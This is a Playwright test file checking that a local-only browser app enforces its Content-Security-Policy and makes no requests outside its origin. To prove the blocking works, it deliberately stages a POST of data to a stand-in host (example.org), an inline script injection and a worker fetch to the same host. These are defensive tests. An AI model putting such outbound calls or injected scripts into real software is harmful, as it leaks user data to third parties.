import { CONTENT_SECURITY_POLICY, CONTENT_SECURITY_POLICY_HEADER } from '../csp.ts';
import { makeSyntheticCase, MODALITIES } from '../src/core/index.ts';
import { chooseMode, download, expect, openWithTinyModel, test } from './fixtures.ts';
import { dropFiles } from './helpers.ts';

/**
 * Issue 8, privacy and security: the built app is served with a Content-Security-Policy
 * that allows only its own origin (csp.ts), in the header and in index.html, and the
 * browser enforces it. That the app works within it is every other e2e test: the fixture
 * fails any test on a CSP violation or a request outside the origin.
 */
test('the Content-Security-Policy is sent, written into the page, and enforced', async ({ page, cspViolations, foreignRequests }) => {
  const response = await page.goto('/');
  expect(response!.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY_HEADER);
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CONTENT_SECURITY_POLICY);
  expect(CONTENT_SECURITY_POLICY).toContain("default-src 'self'");
  expect(CONTENT_SECURITY_POLICY).toContain("connect-src 'self' data:;");
  expect(CONTENT_SECURITY_POLICY).not.toMatch(/https?:|\*|'unsafe-eval'/);

  const blocked = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const out: Record<string, string> = {};
    // A script trying to send data elsewhere, or to inject an inline script. (eval is not
    // tried here: DevTools-driven evaluation is exempt; the policy has no 'unsafe-eval'.)
    out.fetch = await fetch('https://example.org/telemetry', { method: 'POST', body: 'scan' }).then(() => 'sent', (e: Error) => `refused: ${e.name}`);
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.head.append(s);
    out.inline = (window as unknown as { __inlineRan?: boolean }).__inlineRan ? 'ran' : 'refused';
    await new Promise((r) => setTimeout(r, 200));
    return { out, violations };
  });
  expect(blocked.out).toEqual({ fetch: 'refused: TypeError', inline: 'refused' });
  expect(blocked.violations).toEqual(expect.arrayContaining(['connect-src https://example.org/telemetry', 'script-src-elem inline']));
  // Chromium reported them too (the fixture's watch works); provoked on purpose, so cleared.
  await expect.poll(() => cspViolations.filter((v) => v.includes('https://example.org/telemetry')).length).toBeGreaterThan(0);
  await expect.poll(() => cspViolations.filter((v) => v.includes('inline script')).length).toBeGreaterThan(0);
  await page.waitForTimeout(500);
  cspViolations.splice(0, cspViolations.length);
  foreignRequests.splice(0, foreignRequests.length, ...foreignRequests.filter((u) => !u.startsWith('https://example.org/')));
});

test('a violation inside a worker fails a test too (the fixture has each worker report its own)', async ({ page, cspViolations, foreignRequests }) => {
  await page.goto('/');
  // A worker (blob:, as tfjs's threads are) that tries to send data elsewhere when told to.
  const [worker] = await Promise.all([
    page.waitForEvent('worker', (w) => w.url().startsWith('blob:') && !w.url().includes('pthread')),
    page.evaluate(() => {
      const code = "onmessage = async () => postMessage(await fetch('https://example.org/from-worker').then(() => 'sent', (e) => 'refused: ' + e.name));";
      (window as unknown as { probe: Worker }).probe = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    }),
  ]);
  await worker.evaluate(() => undefined); // after the fixture's own evaluation in this worker: its listener is in place
  const outcome = await page.evaluate(() => {
    const probe = (window as unknown as { probe: Worker }).probe;
    return new Promise<string>((resolve) => {
      probe.onmessage = (e) => resolve(e.data);
      probe.postMessage('go');
    });
  });
  expect(outcome).toBe('refused: TypeError');
  await expect.poll(() => cspViolations).toContain('Content Security Policy (in a worker): connect-src blocked https://example.org/from-worker');
  cspViolations.splice(0, cspViolations.length);
  foreignRequests.splice(0, foreignRequests.length, ...foreignRequests.filter((u) => !u.startsWith('https://example.org/')));
});

test('load, run and export: every request the page and its workers make goes to this origin', async ({ page, context, baseURL }) => {
  test.setTimeout(180_000);
  const origin = new URL(baseURL!).origin;
  const requests: string[] = [];
  const methods = new Set<string>();
  context.on('request', (r) => {
    requests.push(r.url());
    methods.add(r.method());
  });
  await openWithTinyModel(page);
  const loaded = requests.length;
  // Load a case, run, export every file.
  const synthetic = makeSyntheticCase({ seed: 4 });
  await dropFiles(page, [...MODALITIES.map((m) => synthetic.files[m]), synthetic.files.seg]);
  await chooseMode(page, 'bn', { iterations: 2, statsSlices: 4 });
  await page.getByTestId('run').click();
  await expect(page.getByTestId('results')).toHaveAttribute('data-status', 'done', { timeout: 120_000 });
  const exported: string[] = [];
  for (const id of ['export-baseline', 'export-bn', 'export-csv']) exported.push((await download(page, id)).name);
  expect(exported).toEqual(['Synthetic_0004_attune-baseline.nii.gz', 'Synthetic_0004_attune-bn.nii.gz', 'Synthetic_0004_attune-loss.csv']);

  expect(loaded, 'the page, its worker, the model and the wasm binaries were requested').toBeGreaterThan(5);
  expect(requests.some((u) => u.endsWith('/e2e-model/weights.bin'))).toBe(true);
  expect(requests.some((u) => /\.wasm$/.test(u))).toBe(true);
  const elsewhere = requests.filter((u) => !u.startsWith('data:') && new URL(u).origin !== origin);
  expect(elsewhere, `requests outside ${origin} during load, run and export`).toEqual([]);
  // Only reads: nothing was posted anywhere, not even to this origin (no upload, no telemetry).
  expect([...methods]).toEqual(['GET']);
});
